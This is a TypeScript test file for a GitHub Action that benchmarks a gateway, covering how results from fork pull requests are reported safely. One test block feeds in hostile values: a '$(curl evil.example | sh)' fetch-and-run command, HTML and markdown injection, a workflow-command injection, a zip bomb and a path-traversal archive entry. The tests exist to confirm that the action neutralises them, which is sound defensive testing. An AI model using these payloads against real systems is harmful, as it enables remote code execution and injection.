import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXIT, exitOfVerdict } from '../../src/app/exit-status.ts';
import { runToJson } from '../../src/archive/run-codec.ts';
import type { Status } from '../../src/model/verdict.ts';
import { type FinishedJob, type JobOptions, runJob } from '../support/action-job.ts';
import { type ReferenceGateway, startReferenceGateway } from '../support/bundle-process.ts';
import { type FakeGithub, startFakeGithub } from '../support/fake-github/fake-github.ts';
import { obeyedPart } from '../support/fake-github/fake-runner.ts';
import { BOT_LOGIN, type FakeComment, type FakeRun, FORK_ID, REPOSITORY_ID } from '../support/fake-github/state.ts';
import { zipOf } from '../support/fake-github/zip-builder.ts';
import { type ArchiveStorage, startArchiveStorage } from '../support/left-artifact.ts';
import { run as buildRun, scenarioRun } from '../support/report-builders.ts';

const CONFIG = `
version: 1
seed: the same requests every time
gateway:
  url: http://gateway.invalid
  headers: { authorization: "Bearer \${env.GATEWAY_KEY}" }
limits: { requests: 1000, duration: 30s, concurrency: 20 }
scenarios:
  chat:
    load: { users: 6, duration: 1500ms, warmup: 0s }
    endpoint: chat
    body: { model: gpt-4o, messages: [{ role: user, content: "Draft an answer to ticket \${seq}." }] }
    slo: [SLO]
`;

/** What stands on the default branch. No answer of the reference gateway takes as long, and none is as fast as the other. */
const GENEROUS = CONFIG.replace('SLO', 'p50 < 30s');
const STRICT = CONFIG.replace('SLO', 'p50 < 1ms');

const FORBIDDEN = { status: 403, body: { message: 'Resource not accessible by integration' } };

let github: FakeGithub;
let gateway: ReferenceGateway;
let storage: ArchiveStorage;

beforeAll(async () => {
  [github, gateway] = await Promise.all([startFakeGithub(), startReferenceGateway()]);
  storage = await startArchiveStorage(github.state);
});

afterAll(async () => {
  await Promise.all([github?.stop(), gateway?.stop(), storage?.stop()]);
  expect(github.state.violations).toEqual([]);
  expect(storage.leaked).toEqual([]);
});

const ours = (issue: number): FakeComment[] =>
  github.state.comments.filter((each) => each.issue === issue && each.login === BOT_LOGIN);
const artifactsOf = (job: FinishedJob): string[] =>
  github.state.artifacts.filter((each) => each.runId === job.runner.runId).map((each) => each.name);
const runOf = (job: FinishedJob): FakeRun => github.state.runs.find((each) => each.id === job.runner.runId)!;
const messagesOf = (job: FinishedJob, name: string): string[] =>
  job.commands.filter((each) => each.name === name).map((each) => each.message);

/** A commit of its own for each pull request. */
const shaOf = (number: number): string => createHash('sha1').update(`pull ${number}`).digest('hex');

/** A fork's pull request and the run of its gate, under the fork's own configuration. */
const measure = async (number: number, config: string): Promise<FinishedJob> => {
  github.state.openPulls.push({ number, headSha: shaOf(number), headRepositoryId: FORK_ID });
  github.failNext({ method: 'POST', path: new RegExp(`/issues/${number}/comments`), ...FORBIDDEN });
  return runJob(github, {
    event: 'pull_request',
    number,
    fork: true,
    config,
    run: { headSha: shaOf(number) },
    inputs: { 'gateway-url': gateway.url },
    env: { GATEWAY_KEY: gateway.key },
  });
};

/** A fork's run that is over, and has left what it liked. */
const forged = (number: number, archive: Buffer | undefined, overrides: Partial<FakeRun> = {}): FakeRun => {
  const run = github.state.addRun({
    event: 'pull_request',
    headBranch: 'feature',
    headSha: shaOf(number),
    headRepositoryId: FORK_ID,
    status: 'completed',
    conclusion: 'success',
    ...overrides,
  });
  if (archive !== undefined) storage.leave(archive, { name: 'gatemark-run-default', runId: run.id });
  return run;
};

/** The workflow_run job on the default branch. It has no gateway and no key. */
const report = (follows: FakeRun, options: Partial<JobOptions> = {}): Promise<FinishedJob> =>
  runJob(github, {
    event: 'workflow_run',
    follows,
    config: GENEROUS,
    ...options,
    inputs: { mode: 'report', ...options.inputs },
  });

describe('a fork’s measurement', () => {
  let honest: FinishedJob;
  let loosened: FinishedJob;
  let reported: FinishedJob;
  let refuted: FinishedJob;
  let forbidden: FinishedJob;

  beforeAll(async () => {
    honest = await measure(11, GENEROUS);
    loosened = await measure(12, GENEROUS);
    reported = await report(runOf(honest), { inputs: { 'save-baseline': 'always' } });
    refuted = await report(runOf(loosened), { config: STRICT, inputs: { 'check-run': 'true' } });
    github.failNext({ path: /\/check-runs/, ...FORBIDDEN });
    forbidden = await report(runOf(loosened), { config: STRICT, inputs: { 'check-run': 'true' } });
    // A second attempt of the same job finds its own comment.
    await report(runOf(honest));
  });

  it('is commented on where the fork’s own job could not', () => {
    expect(messagesOf(honest, 'warning')).toEqual([expect.stringContaining('can only read')]);
    expect(['pass', 'invalid']).toContain(reported.outputs.verdict);
    expect(reported.outputs.verdict).toBe(honest.outputs.verdict);
    expect(reported.status).toBe(exitOfVerdict(reported.outputs.verdict as Status, []));
    expect(ours(11)).toHaveLength(1);
    expect(reported.outputs['comment-url']).toBe(
      `https://github.com/acme/gateway/pull/11#issuecomment-${ours(11)[0]!.id}`,
    );
  });

  it('is told as what it is, in comment and summary', () => {
    for (const text of [ours(11)[0]!.body, reported.summary]) {
      expect(text).toContain(`Measured by run ${honest.runner.runId} of the fork mallory/gateway`);
      expect(text).toContain('computed again');
    }
    expect(reported.report!.run).toMatchObject({ commit: shaOf(11), repository: 'mallory/gateway' });
  });

  it('has the numbers that the fork measured', () => {
    expect(reported.report!.scenarios[0]!.latencyMs).toEqual(honest.report!.scenarios[0]!.latencyMs);
    expect(reported.report!.scenarios[0]!.requests).toBeGreaterThan(5);
  });

  it('is judged by the SLOs of the default branch, whatever the fork’s own say', ({ skip }) => {
    skip(!refuted.report!.generator.healthy, 'the machine was too busy to measure');
    expect(loosened.outputs.verdict).toBe('pass');
    expect([refuted.outputs.verdict, refuted.status]).toEqual(['fail', EXIT.failed]);
    expect(refuted.report!.slos.map(({ text, verdict }) => [text, verdict])).toEqual([['p50 < 1ms', 'fail']]);
    expect(ours(12)[0]!.body).toContain('**Gatemark: fail**');
  });

  it('has a check run on the fork’s commit where one is wanted, by this verdict', ({ skip }) => {
    skip(!refuted.report!.generator.healthy, 'the machine was too busy to measure');
    expect(github.state.checkRuns).toMatchObject([
      { headSha: shaOf(12), name: 'Gatemark', conclusion: 'failure', title: expect.stringMatching(/^fail: chat p50 /) },
    ]);
    expect(github.state.checkRuns[0]!.summary).toContain('of the fork mallory/gateway');
  });

  it('has none where that is forbidden, which is a warning', () => {
    expect(messagesOf(forbidden, 'warning')).toEqual([expect.stringContaining('checks: write')]);
    expect(forbidden.status).toBe(refuted.status);
    expect(github.state.checkRuns).toHaveLength(1);
  });

  it('is kept as a report, and never as a measurement or a baseline', () => {
    expect(artifactsOf(honest)).toEqual(['gatemark-run-default']);
    expect(artifactsOf(reported)).toEqual(['gatemark-report-default']);
  });

  it('needs no secret', () => {
    expect(reported.stderr).toBe('');
    expect(messagesOf(reported, 'warning')).toEqual([]);
  });
});

describe('what a hostile run leaves', () => {
  const HOSTILE = '`x` @octocat [a](http://evil.example) <img src=x>\n::error::by the fork\n```mermaid\nclick A\n```';

  it('comes to life nowhere, and names no pull request', async () => {
    github.state.openPulls.push({ number: 21, headSha: shaOf(21), headRepositoryId: FORK_ID });
    const hostile = buildRun({
      id: HOSTILE,
      seed: '$(curl evil.example | sh)',
      gateway: HOSTILE,
      dialect: HOSTILE,
      origin: { repository: 'acme/gateway', commit: HOSTILE, ref: 'refs/pull/7/merge', workflowRunId: 7 },
      scenarios: [
        scenarioRun({
          load: HOSTILE,
          failures: [{ errorClass: 'auth', status: 401, detail: HOSTILE, count: 3, requestId: HOSTILE }],
        }),
        scenarioRun({ name: HOSTILE }),
      ],
      generator: { ...buildRun().generator, warnings: [HOSTILE] },
    });
    const job = await report(forged(21, zipOf({ 'run.json': runToJson(hostile), 'pr-number.txt': '7' })));
    expect([ours(7).length, ours(21).length]).toEqual([0, 1]);
    expect([job.outputs.verdict, job.stderr]).toEqual(['pass', '']);
    expect(obeyedPart(job.stdout)).not.toContain('by the fork');
    for (const text of [ours(21)[0]!.body, job.summary])
      expect(text).not.toMatch(/@octocat|<img|http:\/\/evil|curl evil\.example \| sh/);
    expect(JSON.stringify(job.report!.run)).not.toContain('refs/pull/7');
  });

  it.each<[string, number, Buffer, string]>([
    ['a zip bomb', 22, zipOf({ 'run.json': '\0'.repeat(80 * 2 ** 20) }, 10), 'could not be unpacked'],
    ['other files', 23, zipOf({ '../../run.json': '{}', 'report.json': '{}' }), 'holds no run.json'],
    ['no run', 24, zipOf({ 'run.json': '{"schemaVersion":1}' }), 'cannot be read'],
    [
      'numbers out of all reason',
      25,
      zipOf({ 'run.json': runToJson(buildRun()).replace('"warmupRequests":100', '"warmupRequests":9007199254740991') }),
      'nothing can have measured',
    ],
    [
      'other scenarios',
      26,
      zipOf({ 'run.json': runToJson(buildRun({ scenarios: [scenarioRun({ name: 'easy' })] })) }),
      'measured no scenario that this configuration has, but easy',
    ],
  ])('is invalid as %s', async (_, number, archive, said) => {
    github.state.openPulls.push({ number, headSha: shaOf(number), headRepositoryId: FORK_ID });
    const job = await report(forged(number, archive));
    expect([job.outputs.verdict, job.status]).toEqual(['invalid', EXIT.invalid]);
    for (const text of [ours(number)[0]!.body, job.summary]) {
      expect(text).toContain('**Gatemark: invalid**');
      expect(text).toContain(said);
    }
  });
});

describe('a run without a pull request, or without a measurement', () => {
  const archive = zipOf({ 'run.json': runToJson(buildRun()) });

  it.each<[string, number, readonly number[], string]>([
    ['has moved on', 31, [], 'no open pull request stands at its commit any more'],
    ['is shared', 32, [32, 33], 'share its commit'],
  ])('is told in the summary alone when the branch %s', async (_, number, numbers, said) => {
    for (const each of numbers)
      github.state.openPulls.push({ number: each, headSha: shaOf(number), headRepositoryId: FORK_ID });
    const before = github.state.comments.length;
    const job = await report(forged(number, archive));
    expect(github.state.comments).toHaveLength(before);
    expect(job.summary).toContain(said);
    expect([job.outputs.verdict, job.outputs['comment-url']]).toEqual(['pass', '']);
  });

  it('is told as cancelled when it was', async () => {
    github.state.openPulls.push({ number: 34, headSha: shaOf(34), headRepositoryId: FORK_ID });
    const job = await report(forged(34, undefined, { conclusion: 'cancelled' }));
    expect([job.outputs.verdict, job.status]).toEqual(['invalid', EXIT.invalid]);
    expect(ours(34)[0]!.body).toContain('it was cancelled before it left a measurement');
  });

  it('is not asked for where the run was for no pull request', async () => {
    const follows = forged(35, archive, { event: 'push', headRepositoryId: REPOSITORY_ID });
    const job = await report(follows);
    expect([job.status, job.outputs.verdict]).toEqual([EXIT.passed, undefined]);
    expect(messagesOf(job, 'notice')).toEqual([expect.stringContaining('started by push')]);
    expect(job.summary).toContain('nothing to report');
  });
});

describe('mode report', () => {
  it('is refused on any other event, and without a token', async () => {
    const wrong = await runJob(github, { event: 'pull_request', config: GENEROUS, inputs: { mode: 'report' } });
    expect([wrong.status, messagesOf(wrong, 'error')]).toEqual([EXIT.usage, [expect.stringContaining('workflow_run')]]);
    const blind = await report(forged(41, undefined), { env: { 'INPUT_GITHUB-TOKEN': '' } });
    expect([blind.status, messagesOf(blind, 'error')]).toEqual([EXIT.usage, [expect.stringContaining('github-token')]]);
  });
});
